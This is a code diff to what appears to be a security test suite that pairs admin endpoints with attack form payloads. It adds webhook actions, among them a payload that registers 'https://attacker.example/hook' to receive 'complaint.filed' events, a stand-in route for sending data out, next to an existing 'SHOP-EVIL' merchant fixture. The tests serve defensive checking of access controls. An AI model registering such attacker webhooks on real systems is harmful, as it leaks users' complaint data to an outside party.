@@ -263,6 +263,13 @@ ATTACKS: dict[tuple[str, str | None], Form] = {
     },
     ("admin.issue_api_token", None): lambda w, key: {},
     ("admin.revoke_api_token", None): lambda w, key: {},
+    ("admin.add_webhook", None): lambda w, key: {
+        "url": "https://attacker.example/hook",
+        "events": ["complaint.filed"],
+    },
+    ("admin.toggle_webhook", None): lambda w, key: {},
+    ("admin.rotate_webhook_secret", None): lambda w, key: {},
+    ("admin.replay_webhook", None): lambda w, key: {},
     ("admin.new_merchant", None): lambda w, key: {
         "shop_code": "SHOP-EVIL",
         "name": ATTACK_TEXT,
@@ -364,6 +371,8 @@ ARGUMENTS: dict[str, Callable[[Planted], object]] = {
     "slug": lambda w: w.report_slug,
     "client_id": lambda w: w.api_client_id,
     "token_id": lambda w: w.api_token_id,
+    "endpoint_id": lambda w: w.webhook_id,
+    "delivery_id": lambda w: w.delivery_id,
 }
 
 
